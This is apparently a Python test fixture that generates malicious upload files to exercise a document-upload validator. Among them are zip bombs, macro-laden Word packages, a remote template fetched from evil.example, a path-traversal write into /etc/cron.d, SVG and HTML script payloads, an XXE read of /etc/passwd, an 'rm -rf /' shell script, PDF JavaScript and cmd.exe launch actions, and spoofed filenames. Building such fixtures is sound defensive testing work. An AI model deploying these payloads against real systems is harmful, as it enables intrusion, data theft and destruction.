"""Files that nobody means well with, made here: none of them harms anybody."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator
from typing import NamedTuple

CONTENT_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml"'
    ' ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.{kind}+xml"/>{more}</Types>'
)
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" + b"$H+H*"
"""The sequence by which it is tried whether a scanner looks at all. It does nothing."""


class Bad(NamedTuple):
    """A file under the name with which it is handed in."""

    what: str
    name: str
    content: bytes


def packed(*parts: tuple[str, bytes], kind: str = "document.main", more: str = "") -> bytes:
    """A document of Word with further parts in it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("[Content_Types].xml", CONTENT_TYPES.format(kind=kind, more=more))
        file.writestr("word/document.xml", "<w:document/>")
        for name, content in parts:
            file.writestr(name, content)
    return out.getvalue()


def bomb() -> bytes:
    """Half a megabyte that unfolds into five hundred."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("[Content_Types].xml", CONTENT_TYPES.format(kind="document.main", more=""))
        with file.open("word/document.xml", "w", force_zip64=True) as part:
            for _ in range(500):
                part.write(b"\0" * 1_000_000)
    return out.getvalue()


def types_bomb() -> bytes:
    """The one part that is always unfolded, made enormous."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file, file.open("[Content_Types].xml", "w") as part:
        for _ in range(300):
            part.write(b" " * 1_000_000)
    return out.getvalue()


def many_parts() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("[Content_Types].xml", CONTENT_TYPES.format(kind="document.main", more=""))
        for n in range(60_000):
            file.writestr(f"p{n}", b"")
    return out.getvalue()


def bad_files() -> Iterator[Bad]:
    """Every one of them."""
    docx = packed()
    yield Bad("zip bomb", "Chronology.docx", bomb())
    yield Bad("bomb in the part that is read", "Chronology.docx", types_bomb())
    yield Bad("sixty thousand parts", "Chronology.docx", many_parts())
    yield Bad("macros", "Report.docx", packed(("word/vbaProject.bin", b"macro"), kind="document.macroEnabled.main"))
    yield Bad(
        "macros by their type",
        "Report.docx",
        packed(more='<Default ContentType="application/vnd.ms-office.vbaProject"/>'),
    )
    yield Bad("macros inside a document", "Report.docx", packed(("word/embeddings/Book1.xlsm", docx)))
    yield Bad("a program inside", "Report.docx", packed(("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")))
    relation = (
        b'<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        b' Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
    )
    yield Bad("a template from elsewhere", "Report.docx", packed(("word/_rels/settings.xml.rels", relation)))
    yield Bad("parts that lead out", "Report.docx", packed(("../../../etc/cron.d/x", b"* * * * *")))
    yield Bad("a macro document by its old form", "Report.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    yield Bad("macro document under its own name", "Report.docm", packed())
    yield Bad("a page in a document's name", "Report.docx", b"<html><script>alert(1)</script>")
    yield Bad("picture that is a page", "Photo.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
    yield Bad("svg under its own name", "Diagram.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
    yield Bad(
        "svg as text", "Diagram.txt", b"\xef\xbb\xbf  <svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    )
    yield Bad("page as text", "Notes.txt", b"<!DOCTYPE html><script>alert(1)</script>")
    yield Bad("page as text in two octets", "Notes.csv", "<html><script>alert(1)</script>".encode("utf-16"))
    yield Bad(
        "entities",
        "Notes.txt",
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    )
    yield Bad("shell", "Notes.txt", b"#!/bin/sh\nrm -rf /\n")
    yield Bad("program", "Notes.txt", b"MZ\x90\x00\x03" + b"\0" * 60)
    yield Bad("program in a list", "Notes.csv", b"\x7fELF\x02\x01\x01" + b"\0" * 60)
    yield Bad(
        "script in a pdf",
        "Letter.pdf",
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    )
    yield Bad("program in a pdf", "Letter.pdf", b"%PDF-1.7\n1 0 obj<</S/Launch/F(cmd.exe)>>endobj")
    yield Bad("file in a pdf", "Letter.pdf", b"%PDF-1.7\n1 0 obj<</Type/EmbeddedFile/Length 9>>endobj")
    yield Bad("pdf and document at once", "Letter.docx", b"%PDF-1.7\n" + docx)
    yield Bad("document and pdf at once", "Letter.pdf", docx + b"%PDF-1.7\n")
    yield Bad("picture and archive at once", "Photo.docx", b"\xff\xd8\xff\xe0" + docx)
    yield Bad("test file of scanners", "Notes.txt", EICAR)
    yield Bad("test file of scanners in a picture", "Photo.png", b"\x89PNG\r\n\x1a\n" + EICAR)
    yield Bad("nothing", "Notes.txt", b"")
    yield Bad("two endings", "Invoice.pdf.exe", b"%PDF-1.7")
    yield Bad("turned round", "Invoice\u202efdp.exe", b"%PDF-1.7")
    yield Bad("no name", "", b"%PDF-1.7")
    yield Bad("a device", "NUL", b"%PDF-1.7")
    yield Bad("a stream of another file", "a.txt::$DATA", b"text")
